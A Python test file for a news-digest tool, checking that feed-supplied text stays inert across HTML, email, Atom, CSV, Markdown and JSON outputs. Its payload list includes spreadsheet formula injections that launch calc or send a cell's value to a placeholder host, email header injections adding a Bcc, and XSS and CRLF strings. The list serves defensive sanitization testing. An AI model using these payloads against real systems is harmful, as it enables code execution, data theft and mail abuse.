"""What feeds can write, in every field, in every output: it stays words.

1,000 and more combinations. A payload may be shown; it may not become an element, an
attribute, a header, a cell's formula or a link of its own.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from email import message_from_bytes
from functools import cache
from itertools import product
from typing import Any

import pytest

from monitor.cli.exporting import as_csv, as_json_lines, as_markdown
from monitor.config import DigestSettings
from monitor.model import (
    FeedChange,
    FeedNews,
    FeedTrouble,
    Omission,
    OmitReason,
    Reason,
    Receipt,
    Rendered,
    Trend,
    Update,
)
from monitor.stages.render import Links, render_issue
from monitor.stages.render.atom import ATOM, Item, render_atom
from monitor.stages.render.channel import channel_message
from monitor.stages.render.compose import compose_message
from tests.factories import (
    NOON,
    make_digest,
    make_entry,
    make_profile,
    make_receipt,
    make_score,
    make_scored,
    make_section,
    make_slot,
    make_story,
)
from tests.markup import Markup
from tests.pipeline.desk import TEMPLATES
from tests.stages.test_render import ATTRIBUTES, ELEMENTS, HOSTILE

MORE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("https://t.example/?"&A1,"x")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "[x](javascript:alert(1))",
    "![x](https://t.example/p.gif)",
    "`code` **bold** | cell | <https://t.example>",
    "]]></title><script>alert(1)</script>",
    "\ufffe\uffff\x0b\x0c",
    "subject\r\nBcc: e@e.example\r\n\r\n<b>body</b>",
    "=?utf-8?b?DQpCY2M6IGVAZQ==?=",
    "=?iso-8859-1?q?=0ABcc=3A?=",
    "a\u2028b\u2029c\x85d",
    "<details open ontoggle=alert(1)>",
    "<a href=\"data:text/html,x\">x</a>",
    "%0d%0aSet-Cookie: x",
]  # fmt: skip
PAYLOADS = [*HOSTILE, *MORE]
FIELDS = [
    "title", "summary", "outlet", "term", "profile", "feed", "problem", "detail", "digest",
    "update", "news",
]  # fmt: skip
OUTPUTS = ["html", "text", "message", "page", "json", "atom", "csv", "markdown", "jsonl"]
ENTRY_FIELDS = ("title", "summary", "outlet", "term", "profile")
BASE = "https://monitor.example"


def checks() -> list[tuple[int, str]]:
    """Return each payload with each field; every output is looked at for each."""
    return list(product(range(len(PAYLOADS)), FIELDS))


def digest_with(**of: str) -> Any:
    entry = make_entry(
        title=of.get("title", "A title"),
        summary=f"Ministers named the dams and the dates of each delivery. {of.get('summary', '')}",
        outlet=of.get("outlet", "Outlet"),
        link="https://plain.example/x",
    )
    other = make_entry("b", outlet=f"Other {of.get('outlet', '')}", link="https://o.example/x")
    score = make_score(reasons=(Reason(of.get("term", "term"), 1.0, "title"),))
    update = Update(2, f"Earlier {of.get('update', '')}", (f"news {of.get('update', '')}",))
    story = make_story(1, make_scored(entry, score), make_scored(other, score))
    story = type(story)(story.number, story.entries, update=update)
    left = tuple(
        Omission(make_story(n, make_scored(entry, score)), reason, of.get("detail", "why"))
        for n, reason in ((2, OmitReason.BELOW_THRESHOLD), (3, OmitReason.ALREADY_SENT))
    )
    receipt: Receipt = make_receipt(
        troubles=(FeedTrouble(of.get("feed", "Feed"), of.get("problem", "dns"), None, "Look."),)
    )
    news = FeedNews(NOON, FeedChange.MOVED, of.get("news", "detail"), of.get("feed", "Feed"))
    title = of.get("profile", "Trade")
    receipt = type(receipt)(
        **{name: getattr(receipt, name) for name in receipt.__slots__}
        | {"news": (news,), "trends": (Trend(title, (1, 0, 3), NOON.date()),)}
    )
    return make_digest(
        make_section(story, profile=make_profile(title=title)),
        slot=make_slot(), omissions=left, receipt=receipt,
    )  # fmt: skip


def outputs(**of: str) -> tuple[Rendered, dict[str, Any]]:
    """Return every output of an issue that bears the text in one of its fields."""
    digest = digest_with(**of)
    settings = DigestSettings(title=of.get("digest", "US–Mexico"))
    keys = {s.entry.key: 7 for o in digest.omissions for s in o.story.entries}
    keys |= {s.entry.key: 7 for story in digest.stories for s in story.entries}
    rendered = render_issue(
        digest, settings=settings, zone="UTC", templates=TEMPLATES,
        links=Links(BASE, "qmark", "morning", "ana@example.org", keys),
    )  # fmt: skip
    message = compose_message(
        rendered, message_id="<a@b.example>", sender=f"{of.get('digest', 'News')} <m@b.example>"
        if "<" not in of.get("digest", "") and ">" not in of.get("digest", "")
        and '"' not in of.get("digest", "") else "m@b.example",
        recipient="ana@example.org", list_id="a.b", date=NOON,
        unsubscribe=(f"{BASE}/u/token",),
    )  # fmt: skip
    post, _ = channel_message(
        digest, settings=settings, zone="UTC", unconfirmed=(), recipient="webhook:x",
        message_id="<p@b.example>",
    )  # fmt: skip
    row = {
        "story": 1, "title": of.get("title", ""), "outlet": of.get("outlet", ""),
        "link": "https://plain.example/(x)", "published": "2026-07-12T12:00:00+00:00",
        "language": "en", "profile": of.get("profile", ""), "score": 0.5,
        "because": [of.get("term", "")], "reports": 2, "summary": of.get("summary", ""),
    }  # fmt: skip
    atom = render_atom(
        id="urn:uuid:1", title=of.get("digest", "T"), updated=datetime(2026, 7, 12, tzinfo=UTC),
        items=[Item("urn:uuid:2", of.get("title", "t"), "https://plain.example/x", NOON,
                    f"s {of.get('summary', '')}", f"o {of.get('outlet', '')}")],
    )  # fmt: skip
    return rendered, {
        "message": message, "json": post.content, "atom": atom,
        "csv": "".join(as_csv([row])), "markdown": "".join(as_markdown([row])),
        "jsonl": "".join(as_json_lines([row])),
    }  # fmt: skip


@cache
def shapes() -> dict[str, list[str]]:
    """Return of what each output of plain words is made."""
    plain, others = outputs()
    return {
        "html": [element.tag for element in Markup(plain.body_html).elements],
        "page": [element.tag for element in Markup(plain.page_html).elements],
        "atom": [element.tag for element in ET.fromstring(others["atom"]).iter()],
        "message": message_from_bytes(others["message"].content).keys(),
    }


UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\ud800-\udfff]")


def check_markup(kind: str, markup: str) -> None:
    page = Markup(markup)
    tags = [element.tag for element in page.elements]
    assert tags == shapes()[kind]
    assert set(tags) <= ELEMENTS
    assert {name for element in page.elements for name in element.attributes} <= ATTRIBUTES
    hosts = {re.match(r"https://([^/]+)", href)[1] for href in page.values("href")}  # type: ignore[index]
    assert hosts <= {"plain.example", "o.example", "monitor.example"}
    assert not re.search(r"url\s*\(|@import", " ".join(page.values("style") + page.styles))
    assert not UNSEEN.search(markup)


def check_message(raw: bytes) -> None:
    read = message_from_bytes(raw)
    assert read.keys() == shapes()["message"]
    assert raw.isascii()
    assert raw.count(b"\r\n") == raw.count(b"\r") == raw.count(b"\n")
    assert max(map(len, raw.split(b"\r\n"))) <= 998
    header = raw.split(b"\r\n\r\n", 1)[0]
    assert all(len(word) <= 75 for word in re.findall(rb"=\?\S+\?=", header))


def check_table(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2
    assert len(rows[1]) == 11
    assert not any(re.match(r"\s*[=+\-@＝＋－＠]", cell) for cell in rows[1])


def check_markdown(text: str) -> None:
    lines = text.splitlines()
    assert [line[:2] for line in lines] == ["- ", "  "]
    bare = re.sub(r"\\.", "", text)  # what is escaped is a letter like any other
    assert len(re.findall(r"\]\(", bare)) <= 1
    assert not re.search(r"[`|]|!\[|<(?!https://plain\.example)", bare)


@pytest.mark.usefixtures("unmeasured")
@pytest.mark.parametrize("field", FIELDS)
def test_what_feeds_write_stays_words_in_every_output(field: str) -> None:
    for payload in PAYLOADS:
        rendered, others = outputs(**{field: payload})

        check_markup("html", rendered.body_html)
        check_markup("page", rendered.page_html)
        assert not UNSEEN.search(rendered.text)
        assert "=?" not in rendered.subject
        assert rendered.subject.splitlines() == [rendered.subject]
        check_message(others["message"].content)
        post = json.loads(others["json"])
        assert not UNSEEN.search(post["text"])
        assert "<" not in post["text"]
        assert [e.tag for e in ET.fromstring(others["atom"]).iter()] == shapes()["atom"]
        assert {e.get("href") for e in ET.fromstring(others["atom"]).iter(f"{{{ATOM}}}link")} == {
            "https://plain.example/x"
        }
        check_table(others["csv"])
        check_markdown(others["markdown"])
        assert len(others["jsonl"].splitlines()) >= 1
        assert json.loads(others["jsonl"])["story"] == 1


def test_there_are_a_thousand_checks_and_more() -> None:
    assert len(checks()) * len(OUTPUTS) > 3_000
    assert len(PAYLOADS) >= 40
